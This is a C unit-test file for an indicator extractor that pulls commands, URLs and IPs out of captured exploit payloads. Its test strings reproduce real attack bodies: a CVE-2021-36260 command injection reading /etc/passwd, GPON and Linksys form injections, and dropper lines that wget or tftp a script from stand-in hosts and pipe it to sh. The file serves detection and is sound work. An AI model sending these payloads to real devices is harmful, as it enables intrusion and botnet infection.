/* test_indicators.c: commands, URLs and IPs out of real exploit payloads
 * (CVE-2021-36260 bodies as nuclei and bots send them, GPON and Linksys
 * form bodies), decoding, splitting, deduplication and limits. */
#include <stdio.h>

#include "indicators.h"
#include "unit.h"

static struct ind_result r;

static void
x(const char *s, unsigned flags)
{
	indicators_extract((const uint8_t *)s, strlen(s), flags, &r);
}

static void
test_weblanguage(void)
{
	x("<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(cat "
	  "/etc/passwd>webLib/x)</language>",
	        IND_XML | IND_URLDECODE);
	CHECK(r.ncommand == 1);
	CHECK_STR(r.command[0], "cat /etc/passwd>webLib/x");
	CHECK(r.nurl == 0 && r.nip == 0);
	/* a bot's dropper, entity-encoded, chained */
	x("<language>$(cd /tmp;wget http://198.51.100.7:8080/hik.sh -O- "
	  "|sh&amp;&amp;echo ok)</language>",
	        IND_XML);
	CHECK(r.ncommand == 3);
	CHECK_STR(r.command[0], "cd /tmp");
	CHECK_STR(r.command[1], "wget http://198.51.100.7:8080/hik.sh -O- |sh");
	CHECK_STR(r.command[2], "echo ok");
	CHECK(r.nurl == 1);
	CHECK_STR(r.url[0], "http://198.51.100.7:8080/hik.sh");
	CHECK(r.nip == 1);
	CHECK_STR(r.ip[0], "198.51.100.7");
}

static void
test_nesting_and_backticks(void)
{
	x("a=$(echo $(id))b`tftp -g -r m 203.0.113.9`", 0);
	CHECK(r.ncommand == 2);
	CHECK_STR(r.command[0], "echo $(id)");
	CHECK_STR(r.command[1], "tftp -g -r m 203.0.113.9");
	CHECK(r.nip == 1);
	CHECK_STR(r.ip[0], "203.0.113.9");
	/* unterminated: the rest is the command */
	x("$(busybox wget http://x.example/a", 0);
	CHECK(r.ncommand == 1);
	CHECK_STR(r.command[0], "busybox wget http://x.example/a");
	CHECK_STR(r.url[0], "http://x.example/a");
}

static void
test_urlencoded_semicolon(void)
{
	/* GPON diag_Form body, as Mirai variants send it */
	x("XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`"
	  "busybox+wget+http://192.0.2.55/gpon+-O+->/tmp/gpon`;sh+/tmp/"
	  "gpon&ipv=0",
	        IND_URLDECODE | IND_SEMI);
	CHECK(r.ncommand == 1);
	CHECK_STR(r.command[0],
	        "busybox wget http://192.0.2.55/gpon -O ->/tmp/gpon");
	CHECK_STR(r.url[0], "http://192.0.2.55/gpon");
	CHECK_STR(r.ip[0], "192.0.2.55");
	/* no substitution: ';' starts the injection */
	x("ip=1.1.1.1%3Bcd%20/tmp%3B%20wget%20http%3A%2F%2F192.0.2.1%2Fx",
	        IND_URLDECODE | IND_SEMI);
	CHECK(r.ncommand == 2);
	CHECK_STR(r.command[0], "cd /tmp");
	CHECK_STR(r.command[1], "wget http://192.0.2.1/x");
	CHECK(r.nip == 2);
	CHECK_STR(r.ip[0], "1.1.1.1");
	CHECK_STR(r.ip[1], "192.0.2.1");
	/* without IND_SEMI nothing is a command */
	x("a;b", 0);
	CHECK(r.ncommand == 0);
}

static void
test_ips(void)
{
	x("1.2.3.4.5 256.1.1.1 10.0.0.1:23 v1.2.3 x9.9.9.9 "
	  "001.2.3.4 8.8.8.8, 8.8.8.8",
	        0);
	CHECK(r.nip == 4);
	CHECK_STR(r.ip[0], "10.0.0.1");
	CHECK_STR(r.ip[1], "9.9.9.9");
	CHECK_STR(r.ip[2], "001.2.3.4");
	CHECK_STR(r.ip[3], "8.8.8.8");
}

static void
test_urls(void)
{
	x("HTTPS://a.example/x?y=1&z=2\"ftp://b.example/ tftp://c/d "
	  "xhttp://no http://",
	        0);
	CHECK(r.nurl == 3);
	CHECK_STR(r.url[0], "HTTPS://a.example/x?y=1&z=2");
	CHECK_STR(r.url[1], "ftp://b.example/");
	CHECK_STR(r.url[2], "tftp://c/d");
}

static void
test_decoding(void)
{
	uint8_t out[16];

	CHECK(indicators_urldecode((const uint8_t *)"a%2fb+c%zz%4", 12, out,
	              sizeof out, 1) == 10);
	CHECK(memcmp(out, "a/b c%zz%4", 10) == 0);
	CHECK(indicators_urldecode((const uint8_t *)"a+b", 3, out, 2, 0) == 2);
	x("&lt;&#36;(id)&#x3e;&bogus;", IND_XML);
	CHECK_STR(r.text, "<$(id)>&bogus;");
	CHECK(r.ncommand == 1);
	CHECK_STR(r.command[0], "id");
}

static void
test_limits(void)
{
	static char big[IND_TEXT * 2];
	size_t k = 0;

	for (int i = 0; i < 40; i++)
		k += (size_t)snprintf(big + k, sizeof big - k, "$(c%d)", i);
	x(big, 0);
	CHECK(r.ncommand == IND_MAX);
	CHECK(r.truncated);
	CHECK_STR(r.command[15], "c15");
	memset(big, 'a', sizeof big - 1);
	big[sizeof big - 1] = 0;
	x(big, 0);
	CHECK(r.truncated && r.text_len == IND_TEXT - 1);
}

static void
test_event(void)
{
	/* indicators_event accepts NULL (an excluded source) */
	x("$(wget http://192.0.2.1/a)", 0);
	indicators_event(NULL, &r);
	CHECK(r.ncommand == 1 && r.nurl == 1 && r.nip == 1);
}

const struct unit_test unit_indicators[] = {
        {"weblanguage", test_weblanguage},
        {"nesting_and_backticks", test_nesting_and_backticks},
        {"urlencoded_semicolon", test_urlencoded_semicolon},
        {"ips", test_ips},
        {"urls", test_urls},
        {"decoding", test_decoding},
        {"limits", test_limits},
        {"event", test_event},
        {0, 0},
};
